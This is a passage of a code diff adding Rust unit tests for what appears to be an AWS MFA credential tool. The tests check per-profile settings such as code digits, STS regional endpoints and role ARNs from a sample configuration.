+            assert_eq!(get_code_digits("suzuki", &config).unwrap(), 8);
+            assert_eq!(get_code_digits("tanaka", &config).unwrap(), 6);
+            assert_eq!(get_code_digits("satoh", &config).unwrap(), 6);
+        }
+
+        #[test]
+        fn it_finds_sts_regional_endpoints_from_configs() {
+            let config = test_config();
+            assert_eq!(
+                get_sts_regional_endpoints("suzuki", &config),
+                Some(RegionalEndpoints::Regional)
+            );
+            assert_eq!(get_sts_regional_endpoints("tanaka", &config), None);
+        }
+
+        #[test]
+        fn it_finds_role_arn_from_configs() {
+            let config = test_config();
+            assert_eq!(
+                get_role_arn("tanaka", &config).as_deref(),
+                Some("arn:aws:iam::123456789012:role/admin")
+            );
+            assert!(get_role_arn("suzuki", &config).is_none());
+        }
+
         fn test_config() -> Config {
             Config {
                 devices: vec![
                     Device {
                         profile: "tanaka".to_owned(),
                         arn: "tanaka-device".to_owned(),
+                        code_source: None,
+                        code_digits: None,
+                        output_profile: None,
+                        key_store: None,
+                        sts_regional_endpoints: None,
+                        role_arn: Some("arn:aws:iam::123456789012:role/admin".to_owned()),
                     },
                     Device {
                         profile: "suzuki".to_owned(),
                         arn: "suzuki-device".to_owned(),
+                        code_source: Some(CodeSource::Prompt),
+                        code_digits: Some(8),
+                        output_profile: None,
+                        key_store: None,
+                        sts_regional_endpoints: Some(RegionalEndpoints::Regional),
+                        role_arn: None,
                     },
                 ],
-                backup_file: None,
-                duration: None,
-                mfa_profile: None,
+                ..Default::default()
             }
         }
     }